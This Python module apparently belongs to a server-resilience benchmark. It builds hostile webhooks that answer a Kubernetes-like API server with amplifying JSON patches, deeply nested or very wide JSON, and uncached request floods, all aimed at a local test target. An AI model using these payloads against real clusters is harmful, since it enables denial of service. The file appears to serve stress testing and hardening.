"""Webhooks of an attacker, whose responses cost the server more than they cost the webhook."""

from __future__ import annotations

import base64
import json
import re
import ssl
import tempfile
from collections.abc import Awaitable, Callable
from functools import partial
from pathlib import Path
from typing import Any, Final

import trio

from benchmarks.attacks.outside import MAPS, create
from benchmarks.attacks.target import Attack, Target, head, many, post
from benchmarks.baselines.certificate import write_certificate

_REGISTRATIONS = "/apis/admissionregistration.cluster.io/v1"
# About the largest responses that the server takes of an admission webhook, and of one of access.
_LARGE, _LARGE_ACCESS = 5 << 20, 1 << 20
_LENGTH = re.compile(rb"content-length: *(\d+)", re.IGNORECASE)
_UID = re.compile(rb'"uid": *"([^"]+)"')
Respond = Callable[[bytes], bytes]  # the response to a review
_WHO: Final = "who runs the webhook"


async def _serve(respond: Respond, stream: trio.abc.Stream) -> None:
    async with stream:
        buffer = b""
        try:
            while part := await stream.receive_some():
                buffer += part
                begin, _, body = buffer.partition(b"\r\n\r\n")
                length = _LENGTH.search(begin)
                if length is None or len(body) < int(length[1]):
                    continue
                buffer = b""
                answer = respond(body)
                start = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
                await stream.send_all(start % len(answer) + answer)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass  # the server has gone


async def _listening(
    target: Target, respond: Respond, then: Callable[[Target, int, str], Awaitable[None]]
) -> None:
    """Serve a webhook while `then` runs, which gets its port and certificate."""
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    with tempfile.TemporaryDirectory() as folder:
        certificate, key = write_certificate(Path(folder), "127.0.0.1")
        context.load_cert_chain(certificate, key)
        bundle = base64.b64encode(certificate.read_bytes()).decode()
    async with trio.open_nursery() as nursery:
        serve = partial(
            trio.serve_ssl_over_tcp,
            partial(_serve, respond),
            target.hostile_port,
            context,
            host="127.0.0.1",
            https_compatible=True,
        )
        [listener] = await nursery.start(serve)
        port = listener.transport_listener.socket.getsockname()[1]
        await then(target, port, bundle)
        nursery.cancel_scope.cancel()


def _review(uid: bytes, *more: bytes) -> bytes:
    fields = b",".join([b'"uid":"%b"' % uid, b'"allowed":true', *more])
    return b'{"kind":"AdmissionReview","apiVersion":"admission.cluster.io/v1","response":{%b}}' % fields


def _admission(kind: str, answer: Callable[[bytes], bytes]) -> Attack:
    """Writes that a webhook of this kind admits; `answer` makes its response for a uid."""

    def respond(review: bytes) -> bytes:
        uid = _UID.search(review)
        assert uid is not None
        return answer(uid[1])

    async def write(target: Target, port: int, bundle: str) -> None:
        rule = {
            "operations": ["CREATE"],
            "apiGroups": [""],
            "apiVersions": ["v1"],
            "resources": ["configmaps"],
        }
        hook = {
            "name": "hostile.example.com",
            "clientConfig": {"url": f"https://127.0.0.1:{port}", "caBundle": bundle},
            "admissionReviewVersions": ["v1"],
            "sideEffects": "None",
            "rules": [rule],
        }
        path = f"{_REGISTRATIONS}/{kind}webhookconfigurations"
        await create(target, path, {"metadata": {"name": "hostile"}, "webhooks": [hook]})
        body = json.dumps({"metadata": {"generateName": "a-"}, "data": {"a": "b" * 100}}).encode()
        await many(target, 8, post(MAPS, body))

    return Attack(partial(_listening, respond=respond, then=write), _WHO)


def _patch(operations: list[dict[str, Any]]) -> Callable[[bytes], bytes]:
    encoded = base64.b64encode(json.dumps(operations).encode())

    def answer(uid: bytes) -> bytes:
        return _review(uid, b'"patchType":"JSONPatch"', b'"patch":"%b"' % encoded)

    return answer


def _doubling() -> Callable[[bytes], bytes]:
    """A patch that repeatedly copies the data into itself."""
    copies = [{"op": "copy", "from": "/data", "path": f"/data/x{number}"} for number in range(40)]
    return _patch(copies)


def _long_copies() -> Callable[[bytes], bytes]:
    """A patch that copies the same long text many times."""
    first = {"op": "add", "path": "/data", "value": {"a": "x" * 1_000_000}}
    return _patch([first, *({"op": "copy", "from": "/data/a", "path": f"/data/a{n}"} for n in range(20_000))])


def _wide(name: bytes, size: int = _LARGE - 1000) -> bytes:
    """A field with this many bytes of empty lists."""
    return b'"%b":[%b]' % (name, b"[]," * (size // 3) + b"[]")


def _deep(name: bytes, size: int = _LARGE - 1000) -> bytes:
    """A field of lists in lists."""
    return b'"%b":%b%b' % (name, b"[" * (size // 2), b"]" * (size // 2))


def _of_the_kubeconfig(mode: tuple[str, ...], flag: str) -> Callable[[Path, int], tuple[str, ...]]:
    """The flags of a server whose tokens or requests a webhook decides about."""

    def flags(folder: Path, port: int) -> tuple[str, ...]:
        cluster = {"server": f"https://127.0.0.1:{port}", "insecure-skip-tls-verify": True}
        config = {
            "apiVersion": "v1",
            "kind": "Config",
            "clusters": [{"name": "w", "cluster": cluster}],
            "contexts": [{"name": "w", "context": {"cluster": "w", "user": "w"}}],
            "users": [{"name": "w", "user": {}}],
            "current-context": "w",
        }
        file = folder / "webhook.kubeconfig"
        file.write_text(json.dumps(config))
        return (*mode, flag, str(file))

    return flags


def _access(kind: str, extra: Callable[[bytes, int], bytes]) -> Attack:
    """Requests whose token or right a webhook checks, with a response that has more than it needs."""

    def respond(_: bytes) -> bytes:
        group, status = (
            (b"authentication", b'"authenticated":false')
            if kind == "token"
            else (b"authorization", b'"allowed":false')
        )
        review = b"TokenReview" if kind == "token" else b"SubjectAccessReview"
        return b'{"apiVersion":"%b.cluster.io/%b","kind":"%b","status":{%b,%b}}' % (
            group,
            b"v1beta1",
            review,
            status,
            extra(b"more", _LARGE_ACCESS - 1000),
        )

    async def ask(target: Target, _: int, __: str) -> None:
        async with trio.open_nursery() as nursery:
            for number in range(8):
                nursery.start_soon(_asked, target, kind, number)
            await target.over()
            nursery.cancel_scope.cancel()

    flags = (
        _of_the_kubeconfig((), "--authentication-token-webhook-config-file")
        if kind == "token"
        else _of_the_kubeconfig(("--authorization-mode", "Webhook"), "--authorization-webhook-config-file")
    )
    return Attack(partial(_listening, respond=respond, then=ask), _WHO, flags=flags)


async def _asked(target: Target, kind: str, first: int) -> None:
    """Each request has a new token or path, so that no earlier decision is cached."""
    from benchmarks.attacks.target import NOBODY, read_response

    number = first
    while True:
        number += 8
        path, token = (MAPS, f"unknown-{number}") if kind == "token" else (f"{MAPS}/a-{number}", NOBODY)
        async with await target.connect() as stream:
            await stream.send_all(head("GET", path, token=token))
            await read_response(stream)


WEBHOOKS: dict[str, Attack] = {
    "mutating webhook: a patch that doubles": _admission("mutating", _doubling()),
    "mutating webhook: a patch that copies a long text": _admission("mutating", _long_copies()),
    "validating webhook: wide JSON": _admission("validating", lambda uid: _review(uid, _wide(b"more"))),
    "validating webhook: deep JSON": _admission("validating", lambda uid: _review(uid, _deep(b"more"))),
    "token webhook: wide JSON": _access("token", _wide),
    "token webhook: deep JSON": _access("token", _deep),
    "authorization webhook: wide JSON": _access("authorization", _wide),
    "authorization webhook: deep JSON": _access("authorization", _deep),
}
